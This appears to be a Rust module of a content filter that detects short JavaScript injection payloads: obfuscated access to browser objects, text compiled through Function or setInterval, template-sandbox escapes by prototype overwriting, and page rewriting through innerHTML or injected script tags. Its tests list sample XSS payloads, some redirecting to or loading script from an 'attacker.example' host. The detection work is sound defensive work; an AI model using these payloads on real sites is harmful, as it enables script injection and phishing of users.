//! JavaScript by itself: a string that reaches the browser's objects by detours which only a filter's author needs, or
//! writes markup into the page. Code in a review has lines and words around it; what convicts here is short and whole.

use super::text::{
    all, before, byte, has, has_any, is_space, is_word, needles, one_of, rest, skip_space, window, word_at,
    word_before, words, words_up_to,
};

/// Longest string that is one piece of JavaScript and no page of it.
const WHOLE_BYTES_MAX: usize = 2048;

/// What convicts, if anything does.
pub(super) fn judge(low: &[u8]) -> Option<&'static str> {
    if low.len() > WHOLE_BYTES_MAX || words_up_to(low, 14) >= 14 {
        return None;
    }
    None.or_else(|| by_string(low)).or_else(|| compiled(low)).or_else(|| prototype(low)).or_else(|| written(low))
}

/// `window["doc"+"ument"]`, `self["\x24"]`, `top[/al/.source+/ert/.source]`, `self[Object.keys(self)[5]](1)`.
fn by_string(low: &[u8]) -> Option<&'static str> {
    let found = memchr::memchr_iter(b'[', low).any(|open| {
        let object = word_before(low, open);
        if !words!("window self this top parent frames globalthis document process").has(object) {
            return false;
        }
        let start = skip_space(low, open + 1);
        let inside = window(low, start, 80);
        let close = closing(low, open);
        let name = low.get(start..close).unwrap_or_default();
        let spelled = needles!("+ \\x \\u /* .source concat( join( .keys(").occur(name);
        let quoted = matches!(byte(inside, 0), b'\'' | b'"' | b'`');
        let known = needles!("alert eval document location cookie function settimeout constructor").occur(name);
        let used = matches!(byte(low, skip_space(low, close + 1)), b'(' | b'[' | b'=' | b'.' | b'`');
        let alone = object.len() == open && close + 2 >= low.trim_ascii_end().len();
        (spelled && (used || alone) || quoted && known && used) && !has(name, " + i")
    });
    found.then_some("a browser's object reached by a spelled name")
}

/// The offset of the bracket that closes the one at `open`.
fn closing(low: &[u8], open: usize) -> usize {
    let mut depth = 0_usize;
    for (n, b) in window(low, open, 200).iter().enumerate() {
        match b {
            b'[' => depth += 1,
            b']' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return open + n;
                }
            }
            _ => {}
        }
    }
    low.len()
}

/// `Function("ale"+"rt(1)")()`, `setInterval('ale'+'rt(1)')`, `$eval('…')`: text compiled, and nothing else.
fn compiled(low: &[u8]) -> Option<&'static str> {
    let start = low.iter().take_while(|b| matches!(b, b';' | b'}' | b')' | b'\'' | b'"') || is_space(**b)).count();
    let dollar = usize::from(byte(low, start) == b'$');
    let mut at = start + dollar;
    let mut name = word_at(low, at);
    if name == b"new" {
        at = skip_space(low, at + 3);
        name = word_at(low, at);
    }
    let open = at + name.len();
    if !one_of(name, &["function", "setinterval", "settimeout", "eval", "execscript"]) || is_space(byte(low, open)) {
        return None;
    }
    let quote = match byte(low, open) {
        b'`' => b'`',
        b'(' => byte(low, skip_space(low, open + 1)),
        _ => return None,
    };
    let body = rest(low, open + 1);
    let joined = needles!("'+' \"+\" '·+·' \"·+·\" '.concat( \\x \\u").occur(body);
    let called = has_any(body, &[")()", "`()", "``"]) && name == b"function";
    let escaped = byte(low, open) == b'`' && body.contains(&b'\\');
    (matches!(quote, b'\'' | b'"' | b'`') && (joined || called || escaped || dollar == 1))
        .then_some("text compiled into JavaScript")
}

/// `'a'.constructor.prototype.charAt=[].join`: a method that everything uses, replaced.
fn prototype(low: &[u8]) -> Option<&'static str> {
    let found = all(low, "constructor.prototype.").any(|at| {
        let name = at + 22;
        let end = skip_space(low, name + word_at(low, name).len());
        let receiver = before(low, at) == b'.' && matches!(before(low, at - 1), b'\'' | b'"' | b')' | b'g');
        byte(low, end) == b'=' && byte(low, end + 1) != b'=' && receiver
    });
    let sandbox = has(low, "$$watchers")
        || has(low, ".constructor.prototype") && needles!(".charat= .charat·=").occur(low)
        || has(low, "getownpropertydescriptor") && has(low, "constructor");
    (found || sandbox).then_some("a way out of a template's sandbox")
}

/// `document.body.innerHTML="<h1>…"`, `document.body.appendChild(document.createElement("script"))`.
fn written(low: &[u8]) -> Option<&'static str> {
    let markup = ["innerhtml", "outerhtml"].iter().any(|name| {
        all(low, name).any(|at| {
            let equals = skip_space(low, at + name.len());
            let quote = skip_space(low, equals + 1);
            before(low, at) == b'.'
                && byte(low, equals) == b'='
                && matches!(byte(low, quote), b'\'' | b'"' | b'`')
                && byte(low, skip_space(low, quote + 1)) == b'<'
        })
    });
    let page = needles!("document.body. document.head. document.documentelement. document.body.append").occur(low);
    let appended = page
        && has_any(low, &["append(", "appendchild("])
        && needles!("createelement( (script) .src=").occur(low)
        && !is_word(before(low, 0));
    (markup && has(low, "document") || appended).then_some("a page that is written by a message")
}

#[cfg(test)]
mod tests {
    use super::judge;

    #[test]
    fn detours_convict_and_code_that_is_talked_of_does_not() {
        for text in [
            r#"window["doc"+"ument"]"#,
            r#"self["\x24"]"#,
            r#"top["al"+"ert"](1)"#,
            r#"self[object.keys(self)[5]]("1")"#,
            r#"window['location']['href']="http://attacker.example""#,
            r#"function("ale"+"rt(1)")()"#,
            "setinterval('ale'+'rt(1)')",
            "'a'.constructor.prototype.charat=[].join;",
            r#"document.body.innerhtml = "<h1>log in again</h1>""#,
            "document.body.appendchild(document.createelement('script')).src='//attacker.example'",
        ] {
            assert!(judge(text.as_bytes()).is_some(), "{text}");
        }
        for text in [
            "settimeout(() => done(), 100)",
            "rows[i + 1]",
            "this[name]",
            "window[\"app\"] = start",
            "function(a, b) { return a + b }",
            "set innerhtml only from text you trust",
            "array.prototype.map is fine",
            "document.getelementbyid(\"a\")",
        ] {
            assert_eq!(judge(text.as_bytes()), None, "{text}");
        }
    }
}
